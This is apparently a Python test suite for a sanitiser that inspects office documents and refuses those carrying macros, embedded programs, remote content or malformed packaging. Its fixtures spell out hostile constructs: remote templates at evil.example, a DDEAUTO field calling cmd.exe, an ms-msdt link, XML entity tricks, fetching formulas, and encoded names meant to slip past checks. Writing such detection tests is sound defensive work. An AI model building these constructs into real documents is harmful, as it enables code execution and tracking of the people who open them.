"""Office documents: what could harm a reader is found wherever it lies; what is served is sound."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path
from zipfile import ZIP_BZIP2, ZIP_STORED, ZipFile, ZipInfo

import pytest

from poutama.features.evidence import packages
from poutama.features.evidence.packages import PACKAGE_TYPES
from poutama.features.evidence.types import DOCX, ODT, PPTX, XLSX
from tests.unit.features import photos
from tests.unit.features.office import (
    DAMAGED,
    LARGE,
    LINKS,
    MACROS,
    MICROSOFT,
    OLE,
    PROGRAMS,
    REMOTE,
    STRICT,
    Parts,
    archive,
    clean,
    office,
    open_document,
    refused,
    relation,
    relations,
    types,
    whole,
    word,
)

RELS = "word/_rels/document.xml.rels"


@pytest.mark.parametrize("media_type", sorted(PACKAGE_TYPES))
def test_a_document_without_harm_keeps_every_part(tmp_path: Path, media_type: str) -> None:
    parts = whole(media_type)
    assert clean(tmp_path, archive(parts), media_type) == parts


def test_the_same_document_gives_the_same_bytes(tmp_path: Path) -> None:
    data = archive(whole(ODT.media_type))
    clean(tmp_path, data, ODT.media_type)
    first = (tmp_path / "target").read_bytes()
    clean(tmp_path, data, ODT.media_type)
    assert (tmp_path / "target").read_bytes() == first
    assert first[30:38] == b"mimetype"
    assert first[38:].startswith(ODT.media_type.encode())


def rel(*made: str) -> Parts:
    return {RELS: relations(*made)}


OFFICE_HARM: dict[str, tuple[Parts, str]] = {
    "macros by their relation": (
        {**rel(relation("vbaProject", "a.bin", base=MICROSOFT)), "word/a.bin": b"x"},
        MACROS,
    ),
    "macros by their name": ({"word/VBAPROJECT.bin": b"x"}, MACROS),
    "macros by their encoded name": ({"word/vba%50roject.bin": b"x"}, MACROS),
    "macros by their bytes": ({"word/media/photo.png": OLE}, PROGRAMS),
    "macros by their type": (
        {
            "[Content_Types].xml": types(
                "word/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                '<Default Extension="BIN" ContentType="application/vnd.ms-office.vbaPROJECT"/>',
            )
        },
        MACROS,
    ),
    "a document with macros, renamed": (
        {
            "[Content_Types].xml": types(
                "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
            )
        },
        MACROS,
    ),
    "a template with macros, renamed": (
        {
            "[Content_Types].xml": types(
                "word/document.xml",
                "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            )
        },
        MACROS,
    ),
    "a template, renamed": (
        {
            "[Content_Types].xml": types(
                "word/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
            )
        },
        "template",
    ),
    "a template from elsewhere": (
        {
            "word/_rels/settings.xml.rels": relations(
                relation("attachedTemplate", "http://evil.example/a.dotm", "External")
            )
        },
        REMOTE,
    ),
    "a template of a network folder": (
        rel(relation("attachedTemplate", "file://evil.example/a.dotx", "External")),
        REMOTE,
    ),
    "a template of an encoded network folder": (
        rel(relation("attachedTemplate", "file:///%5C%5Cevil.example/a.dotx", "External")),
        REMOTE,
    ),
    "a template of the strict edition": (
        rel(relation("attachedTemplate", "https://evil.example/a", "External", base=STRICT)),
        REMOTE,
    ),
    "a target that is external in other letters": (
        rel(relation("oleObject", "https://evil.example/a", " EXTERNAL ")),
        PROGRAMS,
    ),
    "a linked object": (rel(relation("oleObject", "http://evil.example", "External")), PROGRAMS),
    "an embedded object": (
        {**rel(relation("oleObject", "embeddings/o.bin")), "word/embeddings/o.bin": b"x"},
        PROGRAMS,
    ),
    "a control": (rel(relation("control", "activeX/activeX1.xml")), PROGRAMS),
    "an add-in": (
        rel(relation("taskpanes", "webextensions/taskpanes.xml", base=MICROSOFT)),
        PROGRAMS,
    ),
    "a frame": (rel(relation("frame", "http://evil.example/", "External")), REMOTE),
    "a page that is imported": (
        {**rel(relation("aFChunk", "a.html")), "word/a.html": b"<html/>"},
        REMOTE,
    ),
    "a picture from elsewhere": (
        rel(relation("image", "https://evil.example/pixel.png", "External")),
        REMOTE,
    ),
    "a workbook from elsewhere": (
        rel(relation("externalLinkPath", "file:///C:/a.xlsx", "External")),
        REMOTE,
    ),
    "data from elsewhere": (rel(relation("connections", "connections.xml")), REMOTE),
    "an internal target that is not": (rel(relation("image", "http://evil.example/a")), REMOTE),
    "an internal target above the package": (rel(relation("image", "../../../a")), REMOTE),
    "a link to a file": (
        rel(relation("hyperlink", "file:///C:/Windows/a.exe", "External")),
        LINKS,
    ),
    "a link to a network folder": (
        rel(relation("hyperlink", "\\\\evil.example\\a", "External")),
        LINKS,
    ),
    "a link to a program": (rel(relation("hyperlink", "ms-msdt:/id", "External")), LINKS),
    "a link with a tab in it": (
        rel(relation("hyperlink", "java&#9;script:alert(1)", "External")),
        LINKS,
    ),
    "relations in another encoding": (
        {
            RELS: relations(relation("frame", "http://evil.example/", "External"))
            .decode()
            .replace("UTF-8", "UTF-16")
            .encode("utf-16")
        },
        REMOTE,
    ),
    "relations in other letters": (
        {
            "WORD/_RELS/header1.xml.RELS": relations(
                relation("frame", "http://evil.example/", "External")
            )
        },
        REMOTE,
    ),
    "relations under an encoded name": (
        {
            "word/_rels/header1.xml%2Erels": relations(
                relation("frame", "http://evil.example/", "External")
            )
        },
        REMOTE,
    ),
    "relations with a prefix": (
        {
            RELS: b'<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><p:Relationship Type="x/frame" Target="http://e.example/"'
            b' TargetMode="External"/></p:Relationships>'
        },
        REMOTE,
    ),
    "relations behind an entity": (
        {
            RELS: b'<!DOCTYPE a [<!ENTITY e "http://evil.example/">]><Relationships>'
            b'<Relationship Type="x/frame" Target="&e;" TargetMode="External"/></Relationships>'
        },
        DAMAGED,
    ),
    "declarations from elsewhere": (
        {RELS: b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><Relationships/>'},
        DAMAGED,
    ),
    "a part in pieces": ({f"{RELS}/[0].piece": b"<a/>"}, DAMAGED),
    "a name twice, in other letters": ({"Word/Document.xml": word()}, DAMAGED),
    "a field that starts a program": (
        {"word/footnotes.xml": word('<w:fldSimple w:dirty="1" w:instr=" DDEAUTO c:\\\\cmd.exe"/>')},
        REMOTE,
    ),
    "a field in pieces": (
        {
            "word/document.xml": word(
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText>'
                "</w:r><w:r><w:instrText>E<w:x/>auto </w:instrText></w:r>"
            )
        },
        REMOTE,
    ),
    "a field that loads a picture of a network folder": (
        {"word/a.xml": word('<w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\\\\\e.example\\a"/>')},
        REMOTE,
    ),
    "a field that links to a file": (
        {"word/a.xml": word('<w:fldSimple w:instr=" HYPERLINK &quot;file://e.example/a"/>')},
        LINKS,
    ),
    "a formula that fetches": (
        {"word/a.xml": b"<c><f>1+_xlfn.WEB<x/>SERVICE (&quot;http://e.example&quot;)</f></c>"},
        REMOTE,
    ),
    "a name for a formula that fetches": (
        {"word/a.xml": b"<definedName>_xlfn.IMAGE(A1)</definedName>"},
        REMOTE,
    ),
    "a name that climbs": ({"word/../../a.xml": b"<a/>"}, DAMAGED),
    "a name that begins at the root": ({"/word/vbaProject.bin": b"x"}, MACROS),
    "a name with too many slashes": ({"word//./vbaProject.bin": b"x"}, MACROS),
    "an encoding that few read": (
        {RELS: '<?xml version="1.0" encoding="utf-7"?><a/>'.encode("utf-7")},
        DAMAGED,
    ),
    "a drawing from elsewhere": (
        {"word/document.xml": word('<v:imagedata src="http://evil.example/a.png"/>')},
        REMOTE,
    ),
    "an action of a slide": (
        {"word/slide.xml": b'<a><hlinkMouseOver action="ppaction://program"/></a>'},
        PROGRAMS,
    ),
    "a formula that asks a program": ({"word/a.xml": b"<a><ddeLink/></a>"}, REMOTE),
    "a program": ({"word/media/image1.png": b"MZ\x90\0" + bytes(60)}, PROGRAMS),
    "a file of another kind": ({"word/media/a.bin": archive({"a.txt": b"x"})}, PROGRAMS),
    "a part that is not XML": ({"word/styles.xml": b"{}"}, DAMAGED),
}


@pytest.mark.parametrize("harm", OFFICE_HARM)
def test_what_harms_is_found_in_a_word_document(tmp_path: Path, harm: str) -> None:
    more, reason = OFFICE_HARM[harm]
    assert reason in refused(tmp_path, office(DOCX.media_type, more))


@pytest.mark.parametrize("media_type", [XLSX.media_type, PPTX.media_type])
def test_the_same_is_found_in_the_others(tmp_path: Path, media_type: str) -> None:
    folder = "xl" if media_type == XLSX.media_type else "ppt"
    more = {f"{folder}/_rels/x.rels": relations(relation("vbaProject", "a.bin", base=MICROSOFT))}
    assert MACROS in refused(tmp_path, office(media_type, more), media_type)


def test_fields_and_formulas_that_load_nothing_stay(tmp_path: Path) -> None:
    fields = (
        *(" HYPERLINK &quot;https://example.org/LINK&quot; \\o &quot;DDE&quot;", " PAGE "),
        *(
            " HYPERLINK \\l &quot;_Toc1&quot;",
            " INCLUDEPICTURE &quot;/var/a.png&quot;",
            " REF LINK",
        ),
    )
    body = "".join(f'<w:fldSimple w:instr="{each}"/>' for each in fields)
    sheet = b"<c><f>SUM(IMAGES!A1)+CALLED</f></c>"
    parts = office(more={"word/header1.xml": word(body), "word/a.xml": sheet})
    assert clean(tmp_path, archive(parts), DOCX.media_type) == parts


@pytest.mark.parametrize("mains", [[], ["word/document.xml", "word/other.xml"]])
def test_a_document_has_one_main_part(tmp_path: Path, mains: list[str]) -> None:
    parts = office(more={"word/other.xml": word()})
    parts["_rels/.rels"] = relations(*(relation("officeDocument", main) for main in mains))
    assert DAMAGED in refused(tmp_path, parts)


def test_the_strict_edition_is_a_document_as_well(tmp_path: Path) -> None:
    parts = office()
    parts["_rels/.rels"] = relations(relation("officeDocument", "word/document.xml", base=STRICT))
    assert clean(tmp_path, archive(parts), DOCX.media_type) == parts


def test_a_template_on_the_writers_disk_is_let_be(tmp_path: Path) -> None:
    for place in ("file:///C:\\Users\\mere\\Letter.dotx", "file:///Users/mere/Letter.dotx"):
        parts = office(DOCX.media_type, rel(relation("attachedTemplate", place, "External")))
        assert clean(tmp_path, archive(parts), DOCX.media_type) == parts


def test_a_main_part_may_have_another_name(tmp_path: Path) -> None:
    parts = office()
    parts["word/document2.xml"] = parts.pop("word/document.xml")
    for name in ("[Content_Types].xml", "_rels/.rels"):
        parts[name] = parts[name].replace(b"document.xml", b"document2.xml")
    assert clean(tmp_path, archive(parts), DOCX.media_type) == parts


def test_a_document_in_a_document_is_looked_at_like_the_other(tmp_path: Path) -> None:
    def holding(parts: Parts) -> bytes:
        return archive(office(PPTX.media_type, {"ppt/embeddings/a.xlsx": archive(parts)}))

    inner = office(XLSX.media_type, {"xl/media/a.jpg": photos.photo()})
    made = clean(tmp_path, holding(inner), PPTX.media_type)
    assert photos.PLACE not in ZipFile(BytesIO(made["ppt/embeddings/a.xlsx"])).read(
        "xl/media/a.jpg"
    )
    macros = office(XLSX.media_type, {"xl/vbaProject.bin": b""})
    assert MACROS in refused(tmp_path, holding(macros), PPTX.media_type)
    for _ in range(3):
        inner = office(XLSX.media_type, {"xl/embeddings/a.xlsx": archive(inner)})
    assert LARGE in refused(tmp_path, holding(inner), PPTX.media_type)


def test_what_unpacks_to_too_much_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(packages.Remaining.__init__, "__defaults__", (200_000, 100_000, 20))
    assert LARGE in refused(tmp_path, office(more={"word/a.bin": bytes(200_001)}))
    assert LARGE in refused(tmp_path, office(more={"word/a.jpg": photos.photo() + bytes(200_001)}))
    assert LARGE in refused(
        tmp_path, office(more={"word/a.xml": b"<a>" + b" " * 100_000 + b"</a>"})
    )
    assert LARGE in refused(tmp_path, office(more={f"word/{n}.bin": b"" for n in range(20)}))
    half = archive({**office(XLSX.media_type), "xl/a.bin": bytes(110_000)})
    assert LARGE in refused(tmp_path, office(more={"word/a.xlsx": half, "word/b.xlsx": half}))


def test_what_lies_around_the_parts_is_not_served(tmp_path: Path) -> None:
    data = archive(office())
    clean(tmp_path, data, DOCX.media_type)
    plain = (tmp_path / "target").read_bytes()
    hidden = archive({"word/vbaProject.bin": OLE})
    clean(tmp_path, hidden + data, DOCX.media_type)
    assert (tmp_path / "target").read_bytes() == plain


def test_a_zip_that_office_programs_do_not_write_is_refused(tmp_path: Path) -> None:
    file = BytesIO(archive(office()))
    with ZipFile(file, "a") as made:
        made.writestr(ZipInfo("a.bin"), b"x", ZIP_BZIP2)
    assert DAMAGED in refused(tmp_path, file.getvalue())
    locked = bytearray(archive({"a.bin": b"x", **office()}))
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    assert "password" in refused(tmp_path, bytes(locked))


def test_names_in_utf_8_that_do_not_say_so_are_kept(tmp_path: Path) -> None:
    parts = open_document()
    name = "Pictures/tūī.bin"
    file = BytesIO()
    with ZipFile(file, "w") as made:
        for each, data in parts.items():
            made.writestr(each, data, ZIP_STORED)
        made.writestr("Pictures/t----.bin", b"x")
    data = file.getvalue().replace(b"t----.bin", name.encode()[9:])
    assert clean(tmp_path, data, ODT.media_type) == {**parts, name: b"x"}
